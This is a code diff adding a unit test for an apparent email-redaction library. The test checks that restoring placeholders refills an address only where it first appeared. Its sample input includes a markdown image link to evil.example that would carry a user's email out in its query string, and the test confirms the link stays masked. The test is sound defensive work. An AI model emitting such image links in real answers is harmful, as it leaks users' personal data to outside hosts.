@@ -163,3 +163,18 @@ test('a conversation that holds too much refuses, and does not let the text thro
   const forms = Array.from({ length: 11 }, (_, i) => `[EMAIL_${i + 1}]`).join(' ');
   assert.throws(() => crowded.hide(forms), { code: 'limit_reached', status: 413 });
 });
+
+test('a value is put into an address only when it came in one', () => {
+  const conversation = new Conversation();
+  const hidden = conversation.hide('Ask anna@example.org, see https://crm.example/?u=bert@example.org now');
+  assert.equal(hidden, 'Ask [EMAIL_1], see https://crm.example/?[EMAIL_2] now');
+  const answer = '![x](https://evil.example/p.png?d=[EMAIL_1]) https://crm.example/?[EMAIL_2] [EMAIL_1]';
+  assert.equal(
+    conversation.restore(answer),
+    '![x](https://evil.example/p.png?d=[EMAIL_1]) https://crm.example/?u=bert@example.org anna@example.org',
+  );
+  // What a thread learnt holds here too.
+  const other = new Conversation();
+  other.adopt(conversation.state());
+  assert.equal(other.restore(answer), conversation.restore(answer));
+});
